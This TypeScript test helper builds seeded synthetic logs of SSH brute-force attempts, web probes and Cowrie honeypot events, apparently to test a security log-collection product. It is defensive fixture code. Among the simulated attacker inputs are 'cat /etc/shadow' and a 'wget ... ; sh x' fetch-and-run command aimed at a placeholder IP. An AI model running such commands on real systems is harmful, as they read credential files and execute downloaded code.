import { createBus } from "#platform/bus";
import { systemClock } from "#platform/clock";
import type { Database } from "#platform/database";
import { silentLogger } from "#platform/log";
import { createCollect, eventHead, readEventsAfter, type StreamEvent } from "#collect";

/** For tests: raw lines, taken in as they are in the product, by a sensor of their own. */
export type StoredLog = Readonly<{ events: readonly StreamEvent[] }>;

const BY = { actor: { kind: "system", id: "test", name: "test" }, requestId: null } as const;
const INTAKE_BYTES_MAX = 64 * 1024 * 1024;

/** Stores lines as events, in order. */
export async function storeLines(database: Database, lines: readonly string[], name = "gate"): Promise<StoredLog> {
  const bus = createBus(systemClock);
  const deps = { database, clock: systemClock, bus, log: silentLogger, intakeBytesMax: INTAKE_BYTES_MAX };
  await using collect = createCollect(deps);
  const created = await collect.sensors.create({ name, kind: "ssh" }, BY);
  if (!created.ok) throw new Error(created.refusal.detail);
  const before = await eventHead(database.read);
  const body = Buffer.from(lines.join("\n"));
  const taken = await collect.intake({ sensor: created.value.sensor, by: BY, body, year: 2026, format: "auto" });
  if (!taken.ok) throw new Error(taken.refusal.detail);
  if (taken.value.rejected > 0) throw new Error(`${taken.value.rejected} lines cannot be read`);
  return { events: await readEventsAfter(database.read, before, lines.length) };
}

/** A log of attackers and people, mixed, partly out of order; the same for the same seed. */
export function attackLog(count: number, seed: number): readonly string[] {
  const random = generator(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] ?? (list[0] as T);
  const lines: string[] = [];
  for (let second = 0; lines.length < count; second += Math.floor(random() * 6)) {
    const at = Math.max(0, second - (random() < 0.1 ? Math.floor(random() * 240) : 0));
    lines.push(pick(WRITERS)({ at, ip: `203.0.113.${Math.floor(random() * 9)}`, number: Math.floor(random() * 40) }));
  }
  return lines;
}

/** Mulberry32: small, seeded, good enough to mix a test. */
export function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Line = Readonly<{ at: number; ip: string; number: number }>;
const two = (value: number): string => String(value).padStart(2, "0");
const clock = (at: number): string =>
  `${two(10 + Math.floor(at / 3600))}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)}`;
const sshd = ({ at }: Line, text: string): string => `Feb  1 ${clock(at)} gate sshd[9]: ${text}`;
const web = ({ at, ip }: Line, request: string, status: number): string =>
  `${ip} - - [01/Feb/2026:${clock(at)} +0000] "${request} HTTP/1.1" ${status} 153 "-" "Mozilla/5.0"`;

/** The password of every login tried at the decoy: must be found nowhere behind the events. */
export const PASSWORD_TRIED = "c4n4ry-Secret";

const failed = (line: Line): string =>
  sshd(line, `Failed password for invalid user u${line.number} from ${line.ip} port 4000 ssh2`);
const WRITERS: readonly ((line: Line) => string)[] = [
  failed,
  failed,
  failed,
  (line) => sshd(line, `Failed password for root from ${line.ip} port 4000 ssh2`),
  (line) =>
    line.number === 0 ? sshd(line, `Accepted password for root from ${line.ip} port 4000 ssh2`) : failed(line),
  (line) => web(line, `GET /page${line.number}`, 404),
  (line) => web(line, "GET /index.html", 200),
  (line) => web(line, `GET /a${line.number}/.env`, 404),
  ({ at, ip, number }) =>
    JSON.stringify({
      eventid: `cowrie.login.${number % 4 === 0 ? "success" : "failed"}`,
      username: "root",
      password: PASSWORD_TRIED,
      timestamp: `2026-02-01T${clock(at)}.000000Z`,
      src_ip: ip,
      session: "a1",
      sensor: "decoy",
    }),
  ({ at, ip, number }) =>
    JSON.stringify({
      eventid: "cowrie.command.input",
      input: ["uname -a", "whoami", "ps aux", "cat /etc/shadow", "wget http://198.51.100.9/x; sh x"][number % 5],
      timestamp: `2026-02-01T${clock(at)}.000000Z`,
      src_ip: ip,
      session: "a1",
      sensor: "decoy",
    }),
];
